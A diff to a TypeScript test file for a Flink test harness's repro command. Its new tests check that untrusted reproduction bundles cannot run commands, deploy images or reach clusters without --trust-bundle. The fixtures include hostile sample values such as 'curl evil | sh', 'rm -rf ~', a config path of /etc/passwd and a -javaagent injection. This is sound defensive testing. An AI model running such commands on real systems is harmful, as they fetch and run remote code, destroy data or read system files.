@@ -9,7 +9,7 @@ import { gzipSync } from 'node:zlib';
 import { bundleFiles, imagesOfRun, reproManifest, tar, untar, TarFormatError } from '../../../harness/report/bundle.ts';
 import type { ScenarioResult } from '../../../harness/report/results.ts';
 import { RunReport } from '../../../harness/report/results.ts';
-import { readReproBundle, reproEnvironment, reproOutcomeLine, reproSelection, testNamePattern } from '../../../harness/cli/repro.ts';
+import { bundleRequests, checkBundleTrust, readReproBundle, reproEnvironment, yamlRequests, reproOutcomeLine, reproSelection, testNamePattern } from '../../../harness/cli/repro.ts';
 import { validateInvocation } from '../../../harness/cli/validate.ts';
 import { BadInputError } from '../../../harness/support/errors.ts';
 
@@ -151,7 +151,49 @@ describe('frh repro', () => {
   it('takes platform, version and settings from the bundle, not from the caller', () => {
     const bundle = readReproBundle(writeBundle('settings.tar.gz', [['repro.json', manifestOf({ platform: 'kubernetes', project: 'kubernetes', settings: { FRH_KUBE_CONTEXT: 'kind-frh' } })]]));
     const env = reproEnvironment(bundle, { PATH: '/bin', FRH_PLATFORM: 'operator', FRH_FLINK_VERSIONS: '1.20.0', FRH_RESUME_COMMAND: './mine', FRH_OPERATOR_SCENARIOS: 'ci', FRH_PARALLEL: '4' });
-    expect(env).toEqual({ PATH: '/bin', FRH_PLATFORM: 'kubernetes', FRH_FLINK_VERSIONS: '2.1.0', FRH_KUBERNETES_FLINK_VERSIONS: '2.1.0', FRH_KUBE_CONTEXT: 'kind-frh' });
+    // The bundle's context is never applied: the person rerunning chooses the cluster.
+    expect(env).toEqual({ PATH: '/bin', FRH_PLATFORM: 'kubernetes', FRH_FLINK_VERSIONS: '2.1.0', FRH_KUBERNETES_FLINK_VERSIONS: '2.1.0' });
+    expect(reproEnvironment(bundle, { FRH_KUBE_CONTEXT: 'mine' }).FRH_KUBE_CONTEXT).toBe('mine');
+  });
+
+  it('runs nothing a bundle names (command, kubeconfig, provider, image, job file) without --trust-bundle, and lists it', async () => {
+    const settings = { FRH_RESUME_COMMAND: 'touch /tmp/owned; echo none', FRH_KUBECONFIG: '/home/x/.kube/config', FRH_CLUSTER_PROVIDER: 'existing', FRH_KUBE_CONTEXT: 'prod', FRH_IMAGE_MINIO: 'evil/minio:1', FRH_OPERATOR_VERSION: '1.7.0' };
+    const path = writeBundle('untrusted.tar.gz', [['repro.json', manifestOf({ settings })]]);
+    const bundle = readReproBundle(path);
+    const printed: string[] = [];
+    expect(() => checkBundleTrust(bundle, new Set(), false, (text) => printed.push(text))).toThrow(/names 4 thing\(s\) that run code, reach a cluster or deploy an image here \(listed above\); read them, then run again with --trust-bundle/);
+    expect(printed.join('')).toBe([
+      `repro: ${path} would run or change:`,
+      '  resume command (run with sh -c) FRH_RESUME_COMMAND: touch /tmp/owned; echo none (needs --trust-bundle)',
+      '  kubeconfig FRH_KUBECONFIG: /home/x/.kube/config (needs --trust-bundle)',
+      '  cluster provider FRH_CLUSTER_PROVIDER: existing (needs --trust-bundle)',
+      '  Kubernetes context: prod (ignored: a context never comes from a bundle: give --context yourself)',
+      '  image FRH_IMAGE_MINIO: evil/minio:1 (needs --trust-bundle)',
+      '  setting FRH_OPERATOR_VERSION: 1.7.0',
+      '',
+    ].join('\n'));
+    expect(() => checkBundleTrust(bundle, new Set(), true, () => undefined)).not.toThrow();
+    // What the caller gives as flags is theirs: only the rest needs trust.
+    expect(bundleRequests(bundle, new Set(['FRH_RESUME_COMMAND', 'FRH_KUBECONFIG', 'FRH_CLUSTER_PROVIDER', 'FRH_IMAGE_MINIO'])).filter((r) => r.needsTrust)).toEqual([]);
+    // Through the CLI's validation: exit 2 before anything is built or started.
+    expect(await badInput(['repro', path])).toMatch(/run again with --trust-bundle/);
+  });
+
+  it('lists what a bundled YAML scenario would run: resume commands, images, job files, FlinkDeployments, risky Flink settings', () => {
+    const yaml = [
+      'id: y', 'title: t', 'strategy: LATEST_STATE', 'expect: { verdict: PASS }',
+      'deployment:', '  image: evil/flink:2.1.0', '  resume: { command: "curl evil | sh" }', '  job: { jar: /etc/x.jar, entryClass: a.B, config: /etc/passwd }',
+      '  flinkConfig: { env.java.opts.all: "-javaagent:/x.jar", parallelism.default: 2 }',
+      'upgrade:', '  resume: { command: "rm -rf ~" }',
+    ].join('\n');
+    expect(yamlRequests(yaml).map((r) => `${r.what}=${r.value}`)).toEqual([
+      'image deployment.image=evil/flink:2.1.0',
+      'resume command (run with sh -c) deployment.resume.command=curl evil | sh',
+      'job file of this machine deployment.job.jar=/etc/x.jar',
+      'job file of this machine deployment.job.config=/etc/passwd',
+      'Flink setting deployment.flinkConfig.env.java.opts.all=-javaagent:/x.jar',
+      'resume command (run with sh -c) upgrade.resume.command=rm -rf ~',
+    ]);
   });
 
   it('answers a bad bundle with one line before anything starts', async () => {
